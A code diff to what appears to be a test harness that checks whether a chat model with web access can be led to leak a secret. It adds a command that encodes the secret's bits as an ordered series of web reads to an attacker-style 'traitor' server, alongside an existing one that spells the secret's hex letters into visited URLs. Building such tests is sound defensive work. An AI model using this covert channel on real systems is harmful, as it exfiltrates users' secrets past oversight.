@@ -21,6 +21,11 @@ export function order(commands: readonly Command[]): string {
 /** Name of a command in an order that is replaced by visits to the addresses `base` + letter, one for each letter of the secret. */
 export const SPELL = 'spell';
 
+/**
+ * Name of a command in an order that is replaced by reads of few addresses, whose order spells the secret: one for a 0 and one for a 1.
+ */
+export const REREAD = 'read again';
+
 /** What the traitor's server saw. */
 export interface Traitor {
   model: ChatModel;
@@ -91,6 +96,12 @@ export function traitor(work: readonly (readonly Command[])[], isApart: boolean)
 function commandsIn(text: string, secret: string): Command[] {
   const given = Buffer.from(text, 'base64url').toString().replaceAll('{secret}', secret);
   return (JSON.parse(given) as Command[]).flatMap(([name, args]) => {
+    if (name === REREAD) {
+      const bits = [...Buffer.from(secret).subarray(0, 2)].flatMap((byte) =>
+        byte.toString(2).padStart(8, '0').split(''),
+      );
+      return bits.map((bit): Command => ['Web.read', { url: `${String(args['base'])}${bit}` }]);
+    }
     if (name !== SPELL) return [[name, args] as const];
     const letters = Buffer.from(secret).toString('hex').slice(0, 8).split('');
     return letters.map((letter): Command => ['Web.read', { url: `${String(args['base'])}${letter}` }]);
